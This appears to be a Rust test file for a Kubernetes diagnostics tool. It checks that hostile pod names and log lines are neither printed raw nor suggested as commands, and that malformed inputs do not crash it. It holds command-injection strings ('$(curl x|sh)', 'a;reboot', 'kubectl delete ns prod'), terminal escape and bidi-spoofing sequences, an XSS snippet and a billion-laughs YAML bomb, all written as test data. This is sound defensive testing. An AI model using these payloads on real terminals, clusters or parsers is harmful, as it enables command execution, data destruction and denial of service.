//! Names and lines that try to steer a terminal or a shell, and inputs that try to break a reader.

use crate::{OUTPUTS, diagnose, of_stdin, printed};
use serde_json::Value;

/// What an attacker writes where a name or a line stands.
const ODD: &[&str] = &[
    "$(curl x|sh)",
    "`reboot`",
    "a;reboot",
    "a\nkubectl delete ns prod",
    "--all",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{1b}]52;c;cm0gLXJm\u{1b}\\",
    "\u{9b}31m\u{9d}0;x\u{9c}",
    "web\u{202e}gnp.exe",
    "web\u{2066}\u{200b}\u{feff}\u{ad}\u{e0041}",
    "a\u{0}b\u{8}\u{7f}",
    "'\"<script>alert(1)</script>|`*_",
    "{{ .Values }}\\u001b[2J",
];

fn pod(odd: &str) -> String {
    let odd = serde_json::to_string(odd).expect("text");
    format!(
        r#"{{"apiVersion":"v1","kind":"List","items":[{{"apiVersion":"v1","kind":"Pod","metadata":{{"name":{odd},"namespace":{odd},"uid":{odd},
"labels":{{{odd}:{odd}}},"annotations":{{"kubernetes.io/x":{odd}}},"ownerReferences":[{{"apiVersion":"apps/v1","kind":"ReplicaSet","name":{odd},"uid":"u"}}]}},
"spec":{{"nodeName":{odd},"containers":[{{"name":{odd},"image":{odd},"command":[{odd}],"args":[{odd}],"resources":{{"limits":{{"memory":"64Mi"}}}},
"livenessProbe":{{"exec":{{"command":[{odd}]}}}},"env":[{{"name":{odd},"valueFrom":{{"secretKeyRef":{{"name":{odd},"key":{odd}}}}}}}]}}]}},
"status":{{"phase":"Running","reason":{odd},"message":{odd},"containerStatuses":[{{"name":{odd},"image":{odd},"ready":false,"restartCount":7,
"state":{{"waiting":{{"reason":"CrashLoopBackOff","message":{odd}}}}},"lastState":{{"terminated":{{"exitCode":137,"reason":"OOMKilled","message":{odd},
"startedAt":"2026-11-23T04:50:50Z","finishedAt":"2026-11-23T04:51:50Z","containerID":{odd}}}}}}}]}}}},
{{"apiVersion":"v1","kind":"Event","metadata":{{"name":"e","namespace":{odd}}},"involvedObject":{{"kind":"Pod","name":{odd},"namespace":{odd}}},"reason":"Failed",
"type":"Warning","message":{odd},"source":{{"component":{odd},"host":{odd}}},"count":3,"lastTimestamp":"2026-11-23T04:51:50Z"}},
{{"apiVersion":"v1","kind":"Event","metadata":{{"name":"f","namespace":{odd}}},"involvedObject":{{"kind":"Pod","name":{odd},"namespace":{odd}}},"reason":"Failed",
"type":"Warning","message":"Failed to pull image \"x\": not found","count":3,"lastTimestamp":"2026-11-23T04:51:50Z"}}]}}"#
    )
}

fn transcript(odd: &str) -> String {
    format!(
        "$ kubectl get pods -n {odd}\nNAME   READY   STATUS    RESTARTS   AGE\n{odd}    0/1     CrashLoopBackOff   7          12m\n\n\
         $ kubectl describe pod {odd} -n shop\nName:  {odd}\nNamespace:  shop\nNode:  {odd}/10.0.0.1\nContainers:\n  {odd}:\n    Image:  {odd}\n    State:  Waiting\n      Reason:  CrashLoopBackOff\n    Last State:  Terminated\n      Reason:  OOMKilled\n      Exit Code:  137\n    Limits:\n      memory:  64Mi\nEvents:\n  Type     Reason   Age  From     Message\n  ----     ------   ---  ----     -------\n  Warning  BackOff  2m   kubelet  {odd}\n\
         $ kubectl logs {odd} -n shop --previous\n2026-11-23T04:50:50Z FATAL {odd} connection refused to {odd}:5432\n\
         $ kubectl get pods -n {odd}\nError from server (Forbidden): pods is forbidden: User \"{odd}\" cannot {odd} resource \"{odd}\" in API group \"\" in the namespace \"{odd}\"\n"
    )
}

fn journal(odd: &str) -> String {
    format!(
        "Nov 23 04:50:50.1 {odd} systemd[1]: containerd.service: Main process exited, code=killed, status=9/KILL\n\
         Nov 23 04:50:51.1 n1 systemd[1]: {odd}.service: Failed with result '{odd}'.\n\
         Nov 23 04:50:52.1 n1 kubelet[115]: E1123 04:50:52.1 115 kubelet.go:2515] \"Error syncing pod, skipping\" err=\"{odd}\" pod=\"{odd}\"\n\
         Nov 23 04:50:53.1 n1 kernel: Memory cgroup out of memory: Killed process 12 ({odd}) total-vm:1kB, anon-rss:1kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:1kB oom_score_adj:1\n"
    )
}

/// What no terminal may see: controls, bidi controls, characters without width.
fn is_odd(c: char) -> bool {
    c.is_control() && c != '\n'
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{feff}' | '\u{ad}' | '\u{e0000}'..='\u{e0fff}')
}

/// Every command of a report in JSON.
fn commands(value: &Value, found: &mut Vec<Vec<String>>) {
    match value {
        Value::Object(fields) => {
            for (key, value) in fields {
                match (key.as_str(), value) {
                    ("command", Value::Array(words)) => {
                        found.push(words.iter().filter_map(Value::as_str).map(str::to_owned).collect());
                    }
                    _ => commands(value, found),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|item| commands(item, found)),
        _ => {}
    }
}

/// Whether a shell and a terminal take a word for no more than a word. Placeholders such as `<amount>` stand for what the
/// reader has to fill in.
fn is_harmless(word: &str) -> bool {
    let placeholder = |part: &str| {
        part.split_once('>')
            .is_some_and(|(name, _)| name.bytes().all(|b| b.is_ascii_lowercase() || b == b'-'))
    };
    word.split('<').skip(1).all(placeholder)
        && !word.contains(['$', '`', ';', '|', '&', '\n', '\'', '"', '\\'])
        && !word.chars().any(is_odd)
}

#[test]
fn nothing_hostile_is_printed_or_run() {
    let mut told = 0;
    // A decent name shows that there would be commands.
    for (number, odd) in ["web-0"].iter().chain(ODD).enumerate() {
        let inputs = [pod(odd), transcript(odd), journal(odd), pod(odd).replace("\\u001b", "\u{1b}")];
        for (form, input) in inputs.into_iter().enumerate() {
            for output in [OUTPUTS[2], OUTPUTS[(number + form) % OUTPUTS.len()]] {
                let run = diagnose(input.as_bytes(), output);
                let text = printed(&run);
                assert!(matches!(run.status.code(), Some(0 | 1)), "{odd:?} {output:?}: {text}");
                assert_eq!(text.chars().find(|c| is_odd(*c)), None, "{odd:?} {output:?}: {text:?}");
                if output.contains(&"json") && run.status.success() {
                    let report: Value = serde_json::from_str(&text).expect("JSON");
                    let mut all = Vec::new();
                    commands(&report, &mut all);
                    told += all.len();
                    for word in all.iter().flatten() {
                        assert!(is_harmless(word), "{odd:?}: {word:?}");
                    }
                    if *odd == "--all" {
                        assert!(!all.iter().flatten().any(|word| word == odd), "{all:?}");
                    }
                }
                let shell = |line: &&str| line.contains("kubectl ") && !line.contains("kubectl describe ");
                for line in text.lines().filter(shell) {
                    assert!(!line.contains("$(curl") && !line.contains("`reboot`"), "{odd:?}: {line}");
                }
            }
        }
    }
    assert!(told > 3, "the inputs lead to commands: {told}");
}

#[test]
fn inputs_that_break_readers_break_nothing() {
    let crash = pod("web-0");
    let mut bomb = String::from(
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n",
    );
    for n in 1..40 {
        let last = n - 1;
        bomb +=
            &format!("a{n}: &a{n} [*a{last}, *a{last}, *a{last}, *a{last}, *a{last}, *a{last}, *a{last}]\n");
    }
    let mut laughs = String::from("lol: &lol0 \"lol\"\n");
    for n in 1..12 {
        laughs += &format!("lol{n}: &lol{n} [{}]\n", vec![format!("*lol{}", n - 1); 10].join(", "));
    }
    laughs += "apiVersion: v1\nkind: Pod\nmetadata: {name: web, labels: {a: *lol11}}\n";
    let cut = crash.len() / 2;
    let boundary = (cut..).find(|at| crash.is_char_boundary(*at)).unwrap_or(0);
    let long = "x".repeat(1 << 20);
    let inputs: Vec<(&str, Vec<u8>)> = vec![
        ("a line of 1 MiB", format!("2026-11-23T04:50:50Z ERROR {long} connection refused\n").into_bytes()),
        (
            "a row of 1 MiB",
            format!("NAME READY STATUS RESTARTS AGE\nweb-{long} 0/1 Error 0 5m\n").into_bytes(),
        ),
        ("a name of 1 MiB", pod(&long).into_bytes()),
        (
            "deep arrays",
            format!("{{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{}", "[".repeat(200_000))
                .into_bytes(),
        ),
        ("deep objects", format!("{}1{}", "{\"a\":".repeat(100_000), "}".repeat(100_000)).into_bytes()),
        ("deep journal", format!("{{\"__CURSOR\":{}", "[".repeat(100_000)).into_bytes()),
        (
            "deep flow YAML",
            format!("apiVersion: v1\nkind: Pod\nmetadata: {}", "[".repeat(100_000)).into_bytes(),
        ),
        (
            "deep block YAML",
            (0..3000).map(|n| format!("{}a:\n", " ".repeat(n))).collect::<String>().into_bytes(),
        ),
        ("aliases", bomb.into_bytes()),
        ("a billion laughs", laughs.into_bytes()),
        ("itself", b"apiVersion: v1\nkind: Pod\nmetadata: &m\n  name: web\n  labels: *m\n".to_vec()),
        ("no UTF-8", crash.bytes().map(|b| if b == b'7' { 0xff } else { b }).collect()),
        ("NUL bytes", crash.replace("web", "w\u{0}b").into_bytes()),
        ("many NUL bytes", [b"2026-11-23T04:50:50Z ERROR x\n".to_vec(), vec![0; 1 << 16]].concat()),
        ("UTF-16", crash.encode_utf16().flat_map(u16::to_le_bytes).collect()),
        (
            "UTF-16 with its mark",
            [vec![0xff, 0xfe], crash.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat(),
        ),
        ("duplicate keys", crash.replace("\"phase\":", "\"phase\":1,\"phase\":[],\"phase\":").into_bytes()),
        (
            "wrong types",
            crash.replace("\"restartCount\":7", "\"restartCount\":{\"a\":[-1e999]}").into_bytes(),
        ),
        ("huge numbers", crash.replace(":137", ":99999999999999999999999999").into_bytes()),
        ("a cut list", crash.as_bytes()[..boundary].to_vec()),
        ("carriage returns", transcript("web-0").replace('\n', "\r").into_bytes()),
        ("an endless claim of length", b"__CURSOR=a\nMESSAGE\n\xff\xff\xff\xff\xff\xff\xff\x7fx\n".to_vec()),
        ("nothing but brackets", b"[{".repeat(50_000)),
        ("nothing but dashes", b"---\n".repeat(50_000)),
        ("nothing but prompts", b"$ kubectl get pods\n".repeat(5_000)),
        ("nothing but headers", b"Name: a\nNamespace: b\n".repeat(5_000)),
    ];
    let read = ["UTF-16 with its mark", "duplicate keys", "wrong types", "huge numbers"];
    for (name, input) in inputs {
        let run = diagnose(&input, OUTPUTS[1]);
        let text = printed(&run);
        assert!(matches!(run.status.code(), Some(0 | 1)), "{name}: {:?} {text:.2000}", run.status);
        assert!(!text.contains("panicked"), "{name}: {text:.2000}");
        assert_eq!(text.chars().find(|c| is_odd(*c)), None, "{name}");
        if read.contains(&name) {
            assert!(text.contains("OOMKilled") || text.contains("memory"), "{name}: {text:.2000}");
        }
    }
}

#[test]
fn times_at_the_ends_of_the_calendar_break_nothing() {
    let journal = |at: &str, microseconds: &str| {
        format!(
            "{{\"__CURSOR\":\"a\",\"__REALTIME_TIMESTAMP\":\"{microseconds}\",\"__MONOTONIC_TIMESTAMP\":\"{microseconds}\",\"_HOSTNAME\":\"n1\",\"_TRANSPORT\":\"kernel\",\"MESSAGE\":\"{at} Memory cgroup out of memory: Killed process 12 (app) total-vm:1kB, anon-rss:1kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:1kB oom_score_adj:1\"}}\n"
        )
    };
    for (at, microseconds) in [
        ("0000-01-01T00:00:00Z", "0"),
        ("0001-01-01T00:00:00Z", "1"),
        ("9999-12-31T23:59:59Z", "253402300799999999"),
        ("9999-12-31T23:59:59.999999999-23:59", "9223372036854775807"),
        ("10000-01-01T00:00:00Z", "18446744073709551615"),
        ("-0001-01-01T00:00:00Z", "-1"),
        ("0000-00-00T00:00:00Z", "99999999999999999999999"),
    ] {
        let mixed = pod("web-0").replacen("2026-11-23T04:50:50Z", at, 1);
        let inputs = [
            pod("web-0").replace("2026-11-23T04:50:50Z", at).replace("2026-11-23T04:51:50Z", at),
            mixed,
            transcript("web-0").replace("2026-11-23T04:50:50Z", at),
            format!("{at} ERROR x refused\n2026-11-23T04:50:50Z FATAL y\n{at} FATAL z\n"),
            journal(at, microseconds) + &journal(at, "1795409450773000"),
        ];
        for (form, input) in inputs.iter().enumerate() {
            for output in [OUTPUTS[1], OUTPUTS[2]] {
                let run = diagnose(input.as_bytes(), output);
                let text = printed(&run);
                assert!(matches!(run.status.code(), Some(0 | 1)), "{at} {form}: {text:.2000}");
                assert!(!text.contains("panicked"), "{at} {form}: {text:.2000}");
            }
            for command in ["timeline", "events"] {
                let run = of_stdin(&[command, "--from", "-"], input.as_bytes());
                let text = printed(&run);
                assert!(matches!(run.status.code(), Some(0 | 1)), "{command} {at} {form}: {text:.2000}");
                assert!(!text.contains("panicked"), "{command} {at} {form}: {text:.2000}");
            }
        }
        let text = printed(&diagnose(inputs[1].as_bytes(), OUTPUTS[1]));
        assert!(text.contains("OOMKilled") || text.contains("memory"), "{at}: {text:.2000}");
    }
}
